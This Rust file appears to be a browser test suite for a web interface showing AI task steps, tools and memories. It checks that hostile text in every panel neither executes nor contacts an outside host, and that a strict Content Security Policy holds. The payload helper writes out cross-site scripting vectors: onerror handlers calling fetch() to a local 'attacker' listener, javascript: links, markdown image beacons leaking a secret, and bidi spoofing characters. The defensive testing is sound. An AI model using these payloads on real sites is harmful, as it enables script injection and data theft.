//! What a model, a tool or a memory may say must neither run nor send anything.

use std::sync::{Arc, Mutex};

use axum::{Router, response::Html, routing::get};
use serde_json::{Value, json};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpListener,
};

use crate::{browser::in_browser, hub::Stage};

/// Listens as an attacker would, and keeps the first line of whatever it is sent.
async fn attacker() -> (String, Arc<Mutex<Vec<String>>>) {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = format!("http://{}", listener.local_addr().unwrap());
    let heard = Arc::new(Mutex::new(Vec::new()));
    let ear = Arc::clone(&heard);
    tokio::spawn(async move {
        while let Ok((mut connection, _)) = listener.accept().await {
            let mut buffer = [0; 1024];
            let read = connection.read(&mut buffer).await.unwrap_or(0);
            let text = String::from_utf8_lossy(&buffer[..read]).into_owned();
            ear.lock().unwrap().push(text.lines().next().unwrap_or("").to_owned());
            let _ = connection.write_all(b"HTTP/1.1 204 No Content\r\ncontent-length: 0\r\n\r\n").await;
        }
    });
    (address, heard)
}

fn payload(attacker: &str) -> String {
    format!(
        "<img src=x onerror=\"window.stolen=1;fetch('{attacker}/fetched')\">\n\
         <script>window.stolen=1</script>\n\
         <svg onload=\"window.stolen=1\"></svg><iframe src=\"{attacker}/frame\"></iframe>\n\
         <link rel=stylesheet href=\"{attacker}/style\"><style>@import '{attacker}/import';</style>\n\n\
         ![beacon]({attacker}/leak?secret) ![](javascript:window.stolen=1) [picture ![in]({attacker}/inner) link]({attacker}/outer)\n\n\
         [click](javascript:window.stolen=1) [data](data:text/html,<script>window.stolen=1</script>) [vb](vbscript:x) [rel](/v1/tasks) \
         [tab](java\u{9}script:window.stolen=1) [a\" onmouseover=\"window.stolen=1](https://example.org/\"onmouseover=\"window.stolen=1)\n\n\
         | <img src={attacker}/cell> | b |\n|---|---|\n| <script>window.stolen=1</script> | c |\n\n\
         ```<img src={attacker}/info>\n<img src={attacker}/code>\n```\n\
         rm\u{202e}txt.exe\u{202c} zero\u{200b}width\u{2066}x\u{2069} \u{feff}\u{e0041}\n"
    )
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_text_neither_runs_nor_asks_any_host_for_anything() {
    let (address, heard) = attacker().await;
    let hostile = payload(&address);
    let control = Html(format!("<!doctype html><title>control</title>{hostile}<img src='{address}/leak'>"));
    let stage = Stage::start_with(Router::new().route("/control", get(async move || control.clone()))).await;
    in_browser(async move |page| {
        // The same text does run where it is taken for markup, and the listener hears it.
        page.open(&format!("{}/control", stage.url)).await;
        page.until("the attack works", async || page.run("return window.stolen ?? 0", vec![]).await, |stolen| *stolen == 1).await;
        for path in ["/leak", "/fetched", "/frame", "/style"] {
            page.until("the listener hears it", async || heard.lock().unwrap().join("\n"), |heard| heard.contains(path)).await;
        }

        page.open("about:blank").await;
        heard.lock().unwrap().clear();
        page.console().await;
        page.requests().await;
        page.open(&stage.url).await;
        show_everywhere(&page, &stage, &hostile).await;

        assert_eq!(page.run("return window.stolen ?? null", vec![]).await, Value::Null);
        let foreign: Vec<_> = page.requests().await.into_iter().filter(|url| !url.starts_with(&stage.url)).collect();
        assert_eq!(foreign, Vec::<String>::new());
        assert_eq!(*heard.lock().unwrap(), Vec::<String>::new());
        // The policy never had to step in: nothing even tried.
        assert_eq!(page.console().await, Vec::<String>::new());
        let dangerous = "img:not(header img), script:not(head script), iframe, object, embed, style, form:not(#ask, #recall), link:not(head link), [onerror], [onload], [onmouseover], [style], #messages svg";
        assert_eq!(page.count(dangerous).await, 0);
        let targets = page.run("return [...document.querySelectorAll('#messages a')].map((one) => one.protocol + one.target + one.rel)", vec![]).await;
        for target in targets.as_array().unwrap() {
            assert!(["https:", "http:"].iter().any(|scheme| *target == format!("{scheme}_blanknoopener noreferrer nofollow")), "{target}");
        }
        let shown = page.text("li.kamil .text").await;
        assert!(shown.contains("rmU+202Etxt.exeU+202C zeroU+200BwidthU+2066xU+2069 U+FEFFU+E0041"), "{shown}");
        assert!(shown.contains("picture not loaded: beacon"), "{shown}");
    })
    .await;
}

/// Puts the text wherever the page shows something that others wrote.
async fn show_everywhere(page: &crate::browser::Page, stage: &Stage, hostile: &str) {
    stage.nodes(vec![crate::panels::node(hostile, "llm", 0.5)]);
    stage.memories(vec![crate::panels::memory("0198c0de-7a3b-7000-8000-000000000001", hostile)]);
    page.ask("Attack").await;
    let task = stage.asked("Attack").await;
    stage.step(&task, json!({
        "id": "a", "kind": "tool", "status": "awaiting_approval", "depends_on": [], "tool": hostile, "inputs": { "code": hostile }, "attempt": 0,
        "approval": { "tool": hostile, "arguments": { hostile: hostile, "b": [hostile] }, "command": ["sh", "-c", hostile], "reason": hostile, "digest": "00",
            "spans": [{ "at": hostile, "start": 0, "end": 9, "excerpt": hostile, "labels": { "sources": [hostile], "trust": hostile },
                "from": [{ "step": hostile, "source": "file", "tool": hostile, "file": hostile }] }] },
    }));
    stage.step(&task, json!({
        "id": "b", "kind": "tool", "status": "failed", "depends_on": ["a"], "tool": hostile, "inputs": { hostile: hostile }, "output": { "o": hostile },
        "attempt": 2, "model": hostile, "error": { "code": "tool_failed", "detail": hostile, "next_step": hostile }, "waiting": hostile,
        "placement": { "chosen": { "node": "x", "name": hostile, "predicted_ms": 1 }, "reasons": [hostile], "rejected": [{ "node": "y", "name": hostile, "reason": hostile }] },
    }));
    stage.edit(&task, |doc| doc["degraded"] = json!([hostile]));
    for chunk in hostile.chars().collect::<Vec<_>>().chunks(7).enumerate() {
        stage.delta(&task, chunk.0 * 7, &chunk.1.iter().collect::<String>());
    }
    page.shows("#approvals", "onerror").await;
    page.click("[data-step=b]").await;
    page.shows("#step .output", "onerror").await;
    page.shows("#step .rejected", "onerror").await;
    page.shows("#graph .degraded", "onerror").await;
    page.shows("li.kamil .text", "zeroU+200Bwidth").await;
    stage.finish(&task, hostile);
    page.until(
        "the answer ends",
        async || page.attribute("li.kamil", "data-status").await,
        |status| status.as_deref() == Some("succeeded"),
    )
    .await;
    page.click("#tab-fleet").await;
    page.shows("#nodes h2", "onerror").await;
    page.click("#tab-memory").await;
    page.shows("#hits", "onerror").await;
    page.click("#tab-tasks").await;
    page.shows("#tasks", "Attack").await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_policy_holds_even_where_the_page_would_be_wrong() {
    let (address, heard) = attacker().await;
    let stage = Stage::start().await;
    in_browser(async move |page| {
        page.open(&stage.url).await;
        let policy = page.run_async("fetch('/').then((reply) => done(reply.headers.get('content-security-policy')))", vec![]).await;
        assert_eq!(policy, kamil_web::CONTENT_SECURITY_POLICY);
        for needed in ["default-src 'none'", "script-src 'self'", "connect-src 'self'", "frame-ancestors 'none'", "base-uri 'none'", "require-trusted-types-for 'script'"] {
            assert!(kamil_web::CONTENT_SECURITY_POLICY.contains(needed), "{needed}");
        }
        assert!(!kamil_web::CONTENT_SECURITY_POLICY.contains("unsafe"));

        let attempts = page.run_async("
            const tried = {};
            const attempt = (name, action) => { try { action(); tried[name] = 'done'; } catch (error) { tried[name] = error.name; } };
            attempt('markup', () => { document.body.innerHTML = '<img src=x onerror=window.stolen=1>'; });
            attempt('listener', () => { document.body.setAttribute('onclick', 'window.stolen=1'); });
            attempt('text', () => { setTimeout('window.stolen=1'); });
            const picture = document.createElement('img');
            picture.src = arguments[0] + '/leak';
            picture.onerror = () => fetch(arguments[0] + '/fetched').then(() => done(['fetched']), () => done(tried));
            document.body.append(picture);
        ", vec![json!(address)]).await;
        assert_eq!(attempts["markup"], "TypeError", "{attempts}");
        assert_eq!(attempts["text"], "TypeError", "{attempts}");
        assert_eq!(page.run("return window.stolen ?? null", vec![]).await, Value::Null);
        assert_eq!(*heard.lock().unwrap(), Vec::<String>::new());
        let console = page.console().await.join("\n");
        assert!(console.contains("Content Security Policy"), "{console}");
    })
    .await;
}
